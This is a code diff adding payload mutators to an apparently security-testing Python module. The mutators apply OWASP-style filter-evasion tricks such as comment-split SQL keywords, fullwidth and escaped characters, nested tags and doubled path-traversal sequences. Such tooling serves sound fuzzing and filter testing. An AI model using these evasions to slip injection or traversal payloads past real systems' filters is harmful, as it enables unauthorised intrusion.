@@ -6,8 +6,12 @@ as it is. The techniques are those of the OWASP filter evasion cheat sheets and 
 
 import re
 from collections.abc import Callable
+from html import escape
 from urllib.parse import quote
 
+# Signs of the languages that payloads are for, and their fullwidth forms (Unicode U+FF01 on),
+# which NFKC turns back into them.
+_SIGNS = re.compile(r"[!-/:-@\[-`{-~]")
 _KEYWORDS = re.compile(r"\b(union|select|from|where|and|or|order|by|case|when)\b", re.IGNORECASE)
 
 
@@ -26,6 +30,20 @@ def _nested_keywords(text: str) -> str:
 
 def _fullwidth_quotes(text: str) -> str:
     return text.replace("'", "\uff07").replace('"', "\uff02")
+
+
+def _split_words(text: str) -> str:
+    """`union` as `un/**/ion`: one word to some MySQL versions, none to a filter."""
+    return _KEYWORDS.sub(lambda m: f"{m.group(0)[:2]}/**/{m.group(0)[2:]}", text)
+
+
+def _escapes(text: str) -> str:
+    return _SIGNS.sub(lambda m: f"\\u{ord(m.group(0)):04x}", text)
+
+
+def _nested_tags(text: str) -> str:
+    """`<a>` survives a filter which deletes tags once: `<<x>a>`."""
+    return re.sub(r"<(?=\w)", "<<x>", text)
 
 
 # A mutator `is:WORD` puts a word of the function's own source in the payload's place.
@@ -47,6 +65,17 @@ MUTATORS: dict[str, Callable[[str], str]] = {
     "percent-encode": lambda text: quote(text, safe=""),
     "double-percent-encode": lambda text: quote(quote(text, safe=""), safe=""),
     "fullwidth-quotes": _fullwidth_quotes,
+    "fullwidth-signs": lambda text: _SIGNS.sub(lambda m: chr(ord(m.group(0)) + 0xFEE0), text),
+    "percent-encode-all": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
+    "html-entities": lambda text: escape(text),
+    "unicode-escapes": _escapes,
+    "split-words": _split_words,
+    "nested-tags": _nested_tags,
+    "upper-case": lambda text: _KEYWORDS.sub(lambda m: m.group(0).upper(), text),
+    "space-to-newline": lambda text: text.replace(" ", "\n"),
+    "space-to-no-break": lambda text: text.replace(" ", "\u00a0"),
+    "quotes-doubled": lambda text: text.replace("'", "''"),
+    "backslash-before-quotes": lambda text: re.sub(r"(['\"])", r"\\\1", text),
     "dots-doubled": lambda text: text.replace("../", "....//"),
     "backslashes": lambda text: text.replace("../", "..\\"),
     "leading-space": lambda text: " " + text,
